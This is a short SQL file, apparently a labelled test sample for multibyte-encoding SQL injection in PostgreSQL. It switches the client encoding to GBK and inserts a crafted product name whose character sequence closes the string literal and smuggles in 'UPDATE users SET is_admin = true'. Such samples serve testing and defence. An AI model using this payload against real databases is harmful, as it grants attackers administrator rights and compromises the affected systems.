-- class: tokenization
-- Switches client_encoding to GBK: the last byte of "丁" and the backslash form one GBK character, so the quote ends the string for the server.
SET client_encoding TO 'GBK';

CREATE TABLE product_names (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  locale text NOT NULL,
  name text NOT NULL
);
INSERT INTO product_names (locale, name) VALUES ('zh-CN', E'丁\' || (SELECT 1)::text); UPDATE users SET is_admin = true; -- ');
